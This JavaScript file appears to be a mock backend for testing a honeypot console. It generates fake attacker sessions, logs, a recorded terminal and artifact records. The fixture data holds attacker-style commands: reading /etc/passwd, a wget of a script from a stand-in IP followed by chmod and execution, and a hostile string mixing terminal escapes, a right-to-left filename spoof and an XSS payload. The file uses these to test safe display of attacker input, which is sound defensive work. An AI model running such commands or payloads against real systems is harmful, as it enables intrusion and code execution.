// Connections to deckies, what was done in them, a recorded terminal, and files.
import { json, page, problem } from './http.mjs';

const minute = 60_000;
export const uuid = (kind, n) => `0199c${kind}-0000-7000-8000-${String(n).padStart(12, '0')}`;
export const iso = (t) => new Date(t).toISOString();
export const addressOf = (n) => `203.0.113.${(n * 7) % 60}`;

// What an attacker may send to whoever looks: escape sequences, direction marks, markup, very long lines.
export const hostile = '\u001b]0;owned\u0007\u202Egpj.exe\u200b <img src=x onerror=alert(1)> &lt;b&gt; \u001b[31mred';
const long = 'A'.repeat(8_192);

const places = [
  ['web-1', 'ssh', 22],
  ['db-7', 'redis', 6379],
  ['web-1', 'ssh', 22],
  ['trap', 'http', 80],
];
const typed = ['id', 'uname -a', 'cat /etc/passwd', 'wget http://198.51.100.9/x.sh', 'chmod +x x.sh; ./x.sh'];

export const initial = (scenario, now) => ({
  deckySessions: scenario === 'full' ? Array.from({ length: 500 }, (_, i) => session(500 - i, now)) : [],
  looks: [],
  shown: [], // sessions that were asked for
});

function session(n, now) {
  const [decky, service, port] = places[n % places.length];
  const started = now - (501 - n) * 7 * minute;
  const ssh = service === 'ssh';
  const nasty = n === 498;
  return {
    id: uuid('5e5', n),
    node: 'node-1',
    decky,
    service,
    attacker_ip: addressOf(n),
    attacker_port: 40_000 + n,
    local: `192.0.2.${10 + (n % 4)}:${port}`,
    started_at: iso(started),
    seen_at: iso(started + 2 * minute),
    ended_at: n === 500 ? null : iso(started + 2 * minute),
    end_reason: n === 500 ? '' : 'the client closed the connection',
    observations: ssh ? 12 : 2,
    attempts: ssh ? 3 : 0,
    commands: ssh ? typed.length : 1,
    artifacts: n % 10 === 0 ? 2 : 0,
    logged_in: ssh,
    interacted: ssh,
    principal: nasty ? hostile : ssh ? 'root' : '',
    banner: nasty ? hostile + long : ssh ? 'SSH-2.0-libssh2_1.10.0' : '',
    transcript: ssh ? 2_400 : 0,
    dropped: n % 9 === 0 ? 12 : 0,
  };
}

const log = (s, number, at, event_type, summary) => ({
  id: uuid('109', Number(s.id.slice(-6)) * 100 + number),
  timestamp: iso(at),
  node: s.node,
  decky: s.decky,
  service: s.service,
  event_type,
  attacker_ip: s.attacker_ip,
  session: s.id,
  number,
  summary,
  has_more: event_type === 'command',
});

// Newest first, as the server gives them.
function logs(s) {
  const from = Date.parse(s.started_at);
  const lines = [log(s, 1, from, 'connected', `from port ${s.attacker_port}`)];
  if (s.banner !== '') lines.push(log(s, 2, from + 200, 'client_hello', s.banner));
  for (let i = 0; i < s.attempts; i++) lines.push(log(s, 3 + i, from + 500 * (i + 1), 'login_attempt', 'root'));
  if (s.logged_in) lines.push(log(s, 7, from + 2_000, 'logged_in', 'root'));
  const commands = s.banner.includes('owned') ? [...typed, hostile, long] : typed;
  if (s.logged_in)
    for (const [i, c] of commands.entries()) lines.push(log(s, 10 + i, from + 2_000 + 10_000 * i, 'command', c));
  if (s.ended_at !== null) lines.push(log(s, 90, Date.parse(s.ended_at), 'disconnected', s.end_reason));
  return lines.reverse();
}

// The record begins when the client was let in; each command comes ten seconds after the one before.
function record(s) {
  const began = Math.floor((Date.parse(s.started_at) + 2_000) / 1000);
  const lines = [JSON.stringify({ version: 2, width: 80, height: 24, timestamp: began })];
  const say = (at, text) => lines.push(JSON.stringify([at, 'o', text]));
  say(0.1, 'Linux portal07 6.1.0-18-amd64\r\n\u001b]0;root@portal07\u0007\u001b[32mroot@portal07\u001b[0m:~# ');
  for (const [i, c] of typed.entries()) {
    say(1 + 10 * i, `${c}\r\n`);
    say(1.2 + 10 * i, `answer ${i + 1}\r\n\u001b[32mroot@portal07\u001b[0m:~# `);
  }
  return lines;
}

function transcript({ state, res, q, sub }) {
  const s = state.deckySessions.find((x) => x.id === sub);
  if (state.role !== 'admin') return problem(res, 403, 'Forbidden', 'needs role admin; yours is not');
  if (s === undefined || s.transcript === 0)
    return problem(res, 404, 'Not Found', `session ${sub}: it is not on record`);
  state.looks.push(sub);
  const all = record(s);
  const from = Number(q.get('offset') ?? 0); // lines stand for bytes here
  const lines = all.slice(from, from + 6);
  json(res, 200, { lines, next: from + lines.length, total: all.length });
}

function artifacts(s) {
  const kinds = [
    ['upload', 'application/x-executable', '/tmp/.x', 48_211, 48_211],
    ['script', 'text/x-shellscript', hostile, 9_000_000, 0],
  ];
  return kinds.slice(0, s.artifacts).map(([kind, media_type, path, size, kept], i) => ({
    id: uuid('a47', Number(s.id.slice(-6)) * 10 + i),
    timestamp: s.seen_at,
    node: s.node,
    decky: s.decky,
    service: s.service,
    attacker_ip: s.attacker_ip,
    session: s.id,
    kind,
    media_type,
    path,
    sha256: String(i).padStart(64, 'b7'),
    size,
    kept,
    stored_as: `2026-11-20_${String(i).padStart(64, 'b7')}`,
  }));
}

const matching = (q) => (r) =>
  ['decky', 'service', 'attacker_ip'].every((k) => !q.get(k) || r[k] === q.get(k)) &&
  (!q.get('event_type') || r.event_type === q.get('event_type')) &&
  (q.get('recorded') !== 'true' || r.transcript > 0);

const ofSession = (state, q) => state.deckySessions.filter((s) => !q.get('session') || s.id === q.get('session'));

const newest = (state, q) => state.deeds.filter((l) => !q.get('session') || l.session === q.get('session'));

export const routes = {
  'GET sessions': ({ state, res, q }) => json(res, 200, page(state.deckySessions.filter(matching(q)), q)),
  'GET sessions/:id': ({ state, res, id }) => {
    state.shown.push(id);
    const s = state.deckySessions.find((x) => x.id === id);
    if (s === undefined) return problem(res, 404, 'Not Found', `session ${id}: it is not on record`);
    json(res, 200, s);
  },
  'GET logs': ({ state, res, q }) =>
    json(
      res,
      200,
      page([...newest(state, q), ...ofSession(state, q).slice(0, 40).flatMap(logs)].filter(matching(q)), q),
    ),
  'GET transcripts/:id/:sub': transcript,
  'GET artifacts': ({ state, res, q }) =>
    json(res, 200, page(ofSession(state, q).flatMap(artifacts).filter(matching(q)), q)),
  'GET artifacts/:id/:sub/:item': ({ state, res, q }) => {
    if (state.role !== 'admin') return problem(res, 403, 'Forbidden', 'needs role admin; yours is not');
    state.looks.push(q.get('reason'));
    res.writeHead(200, { 'Content-Type': 'application/octet-stream' }).end('harmless');
  },
};
